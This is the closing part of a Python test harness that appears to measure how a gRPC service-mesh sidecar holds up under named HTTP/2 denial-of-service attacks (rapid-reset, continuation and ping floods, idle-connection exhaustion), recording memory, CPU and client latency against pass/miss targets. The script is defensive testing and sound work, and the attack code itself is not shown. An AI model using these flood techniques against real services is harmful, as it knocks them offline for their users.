        await sampler
    finally:
        if proc.returncode is None:
            proc.kill()
            await proc.wait()
    t1 = time.monotonic()  # the attacker has left
    row["sidecar_cpu_pct"] = round(100 * (mesh.sidecar_cpu() - cpu_before) / (t1 - t0))
    # Settle, then wait (polling) for the memory to come back.
    await sample_until(lambda: time.monotonic() >= t1 + args.settle)
    window_end = t1 + args.settle
    back = [t for t, rss in samples if t >= t1 and rss is not None and rss <= before + RETURN_MB]
    give_up = t1 + args.recover_timeout
    while not back and samples[-1][1] is not None and time.monotonic() < give_up:
        await asyncio.sleep(0.5)
        rss = mesh.sidecar_rss()
        samples.append((time.monotonic(), rss))
        if rss is not None and rss <= before + RETURN_MB:
            back.append(samples[-1][0])
    during = [rss for t, rss in samples if t <= window_end and rss is not None]
    after = samples[-1][1]
    await asyncio.sleep(max(0.0, window_end + args.deadline + 0.2 - time.monotonic()))
    row.update(
        sidecar_mb={"before": round(before, 1), "peak": round(max(during, default=before), 1),
                    "after": None if after is None else round(after, 1),
                    "returned_s": round(back[0] - t1, 1) if back else None},
        apps_mb={"before": round(apps_before, 1), "after": round(mesh.apps_rss(), 1)},
        client=client.window(t0, window_end), attacker=report,
        client_per_second=client.timeline(t0, window_end),
        client_after=client.window(window_end - 1.0, window_end),
        window_s=round(window_end - t0, 1))
    assert mesh.sidecar is not None
    if mesh.sidecar.proc.returncode is not None:
        row["notes"].append(f"the client sidecar died (exit {mesh.sidecar.proc.returncode}): "
                            + mesh.sidecar.log_tail(3).strip().replace("\n", " | "))
    if "error" in report:
        row["notes"].append(f"attacker: {report['error']}")
    return row


def check(row: dict[str, Any]) -> list[str]:
    """The targets this row misses."""
    misses = []
    mem = row["sidecar_mb"]
    if mem["after"] is None:
        misses.append("sidecar died")
    if mem["peak"] - mem["before"] > MAX_GROWTH_MB or mem["returned_s"] is None:
        misses.append("mem")
    c = row["client"]
    if c["failed"] or c["p99_ms"] is None or c["p99_ms"] >= P99_MS:
        misses.append("client")
    a = row["attacker"]
    expect = row["expect"]
    if "error" in a:
        misses.append("attacker failed")
    elif (expect == "close-all" and (not a["connections"] or a["closed"] < a["connections"])
          or expect == "close-any" and not a["closed"]):
        misses.append("close")
    elif expect == "refuse" and not (a["closed"] or a["rst_stream"]):
        misses.append("refuse")
    elif expect == "415" and a.get("status") != "415":
        misses.append("415")
    return misses


def answer_text(a: dict[str, Any]) -> str:
    if "error" in a:
        return "attacker error"
    parts = [f"GOAWAY {' '.join(f'{k}x{v}' for k, v in a['goaway'].items())}"
             if a["goaway"] else ""]
    parts += [f"RST {k}x{v}" for k, v in a["rst_stream"].items()]
    parts += [f"{k}x{v}" for k, v in a["answers"].items()]
    return "; ".join(p for p in parts if p) or "nothing"


def extra_text(name: str, a: dict[str, Any]) -> str:
    """The attack's own figures, for the line under the table."""
    keys = {"slow-reader": ["read_at_end_mb"], "ping-flood": ["pings_sent", "longest_write_s"],
            "header-cache": ["blocks_sent"],
            "long-path": ["answer_s_20KB", "answer_s_200KB_first", "answer_s_200KB_max",
                          "calls_200KB"],
            "rapid-reset": ["resets_sent", "resets_per_s", "connect_failures"],
            "stream-hog": ["streams_opened"],
            "continuation-flood": ["continuations_sent", "longest_write_s"],
            "idle-conns": ["wanted", "open_s", "connect_failures"],
            "half-preface": ["wanted", "open_s", "connect_failures"],
            "not-grpc": ["status", "answer_s", "body_bytes_sent", "open_after"]}.get(name, [])
    figures = [f"{k}={a[k]}" for k in keys if k in a]
    figures.append(f"attacker_cpu_s={a.get('attacker_cpu_s')}")
    if a.get("goaway_debug"):
        figures.append(f"goaway_debug={a['goaway_debug'][:80]!r}")
    return ", ".join(figures)


def print_table(baselines: list[dict[str, Any]], rows: list[dict[str, Any]]) -> None:
    for b in baselines:
        print(f"baseline: {b['calls']} calls, {b['failed']} failed, p50 {b['p50_ms']} ms, "
              f"p99 {b['p99_ms']} ms")
    cells = []
    for r in rows:
        m, c, b, a = r["sidecar_mb"], r["client"], r["baseline"], r["attacker"]
        returned = "never" if m["returned_s"] is None else f"{m['returned_s']}s"
        cells.append([
            r["attack"], (f"{m['before']:.0f}/{m['peak']:.0f}/"
                          f"{'-' if m['after'] is None else round(m['after'])} ({returned})"),
            f"{r['apps_mb']['before']:.0f}->{r['apps_mb']['after']:.0f}",
            r["sidecar_cpu_pct"], f"{c['failed']}/{c['calls']} ({b['failed']})",
            f"{c['p99_ms']} ({b['p99_ms']})",
            "-" if "error" in a else f"{a['closed']}/{a['connections']}",
            answer_text(a)[:70], "PASS" if not r["misses"] else "MISS " + ",".join(r["misses"])])
    print()
    print(table(["ATTACK", "SIDECAR MB before/peak/after", "APPS MB", "CPU%", "FAILS (base)",
                 "P99 MS (base)", "CLOSED", "ANSWER", "RESULT"], cells))
    print()
    for r in rows:
        print(f"{r['attack']}: {extra_text(r['attack'], r['attacker'])}")
        for note in r["notes"]:
            print(f"  note: {note}")


def raise_fd_limit(wanted: int) -> int:
    """Raise RLIMIT_NOFILE to the hard limit (the mesh's processes inherit it); the soft one."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        soft = hard if hard == resource.RLIM_INFINITY else min(hard, max(wanted, soft))
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return soft


async def main_async(args: argparse.Namespace) -> int:
    main_task = asyncio.current_task()
    assert main_task is not None
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGINT, signal.SIGTERM):
        loop.add_signal_handler(sig, main_task.cancel)
    started = time.monotonic()
    limit = raise_fd_limit(max(args.idle_conns, args.half_preface_conns) + 512)
    for name in ("idle_conns", "half_preface_conns"):
        if getattr(args, name) + 512 > limit:
            setattr(args, name, max(0, limit - 512))
            print(f"RLIMIT_NOFILE is {limit}: --{name.replace('_', '-')} scaled down to "
                  f"{getattr(args, name)}", file=sys.stderr)
    sidecar_args = shlex.split(args.sidecar_args)
    rows: list[dict[str, Any]] = []
    failed: list[str] = []  # attacks this script could not run
    baselines: list[dict[str, Any]] = []
    mesh: Mesh | None = None
    client: Client | None = None
    interrupted = False
    try:
        for name in args.attacks:
            if mesh is None:
                print("starting the mesh...", file=sys.stderr, flush=True)
                mesh = Mesh()
                await mesh.start(sidecar_args)
                client = Client(mesh.outbound, args.rate, args.deadline)
                await asyncio.sleep(2.0)  # warm-up, not counted
                t = time.monotonic()
                await asyncio.sleep(args.baseline)
                await asyncio.sleep(args.deadline + 0.2)  # its last calls finish
                baselines.append(client.window(t, t + args.baseline))
                print(f"baseline: {baselines[-1]}", file=sys.stderr, flush=True)
            assert client is not None
            print(f"attack {name} ...", file=sys.stderr, flush=True)
            try:
                row = await run_attack(ATTACKS[name], mesh, client, args)
            except Exception as err:  # noqa: BLE001  (a bug of this script's: the rest run)
                print(f"  {name} failed: {err!r}", file=sys.stderr, flush=True)
                failed.append(f"{name}: {type(err).__name__}: {err}")
                row = {}
            if row:
                row["baseline"] = baselines[-1]
                row["misses"] = check(row)
                rows.append(row)
                print(f"  {'PASS' if not row['misses'] else 'MISS ' + ','.join(row['misses'])}"
                      f" sidecar MB {row['sidecar_mb']}, client {row['client']}",
                      file=sys.stderr, flush=True)
            m, after = row.get("sidecar_mb", {}), row.get("client_after", {})
            if (not row or m["after"] is None or m["returned_s"] is None or after["failed"]
                    or not after["calls"]):
                if row:
                    row["notes"].append("the mesh was restarted after this attack")
                await client.close()
                await mesh.stop(quick=True)
                mesh = client = None
    except asyncio.CancelledError:  # Ctrl-C or SIGTERM: stop everything, show what ran
        interrupted = True
        print("interrupted: stopping the mesh", file=sys.stderr, flush=True)
    finally:
        if client is not None:
            try:
                await client.close()
            except (TimeoutError, asyncio.CancelledError):
                pass
        if mesh is not None:
            await mesh.stop()
    print_table(baselines, rows)
    for text in failed:
        print(f"FAILED TO RUN {text}")
    runtime = round(time.monotonic() - started, 1)
    print(f"\n{sum(1 for r in rows if not r['misses'])}/{len(rows)} PASS in {runtime} s")
    if args.json:
        args.json.parent.mkdir(parents=True, exist_ok=True)
        settings = {k: str(v) if isinstance(v, Path) else v for k, v in vars(args).items()
                    if k not in ("attacker", "target", "commit")}
        args.json.write_text(json.dumps({
            "commit": args.commit, "runtime_s": runtime, "rlimit_nofile": limit,
            "settings": settings, "baselines": baselines, "rows": rows, "failed": failed,
            "interrupted": interrupted},
            indent=2))
        print(f"wrote {args.json}", file=sys.stderr)
    if interrupted:
        return 130
    return 0 if rows and not failed and not any(r["misses"] for r in rows) else 1


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter,
                                     epilog="\n".join(__doc__.splitlines()[2:]))
    parser.add_argument("--attacks", type=lambda s: s.split(","), default=list(ATTACKS),
                        help=f"comma-separated, from {','.join(ATTACKS)} (default: all)")
    parser.add_argument("--duration", type=float, default=8.0, help="seconds per attack")
    parser.add_argument("--settle", type=float, default=2.0,
                        help="seconds after the attacker left that still count for the client")
    parser.add_argument("--baseline", type=float, default=4.0, help="seconds of baseline")
    parser.add_argument("--recover-timeout", type=float, default=30.0,
                        help="how long the sidecar's memory may take to come back")
    parser.add_argument("--rate", type=float, default=80.0, help="well-behaved calls per second")
    parser.add_argument("--deadline", type=float, default=1.0,
                        help="the well-behaved calls' deadline, seconds")
    parser.add_argument("--rss-cap-mb", type=float, default=2048.0,
                        help="stop an attack early when the sidecar's RSS passes this")
    parser.add_argument("--answer-timeout", type=float, default=20.0,
                        help="long-path: how long to wait for each of its first two answers, "
                             "even beyond --duration")
    parser.add_argument("--idle-conns", type=int, default=7000)
    parser.add_argument("--half-preface-conns", type=int, default=1000)
    parser.add_argument("--sidecar-args", default="",
                        help="extra flags for the client sidecar, e.g. \"--max-metadata-bytes "
                             "8192\"")
    parser.add_argument("--json", type=Path, default=Path("/tmp/grpcmesh-attack.json"))
    parser.add_argument("--attacker", choices=list(ATTACKS), help=argparse.SUPPRESS)
    parser.add_argument("--target", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.attacker:
        return int(uvloop.run(attacker_main(args)))  # less of the attacker's CPU per frame
    unknown = [a for a in args.attacks if a not in ATTACKS]
    if unknown:
        parser.error(f"unknown attacks {unknown}: expected {', '.join(ATTACKS)}")
    args.commit = subprocess.run(["git", "-C", str(Path(__file__).parent), "rev-parse",
                                  "--short", "HEAD"], capture_output=True, text=True,
                                 check=False).stdout.strip()
    return asyncio.run(main_async(args))


if __name__ == "__main__":
    raise SystemExit(main())
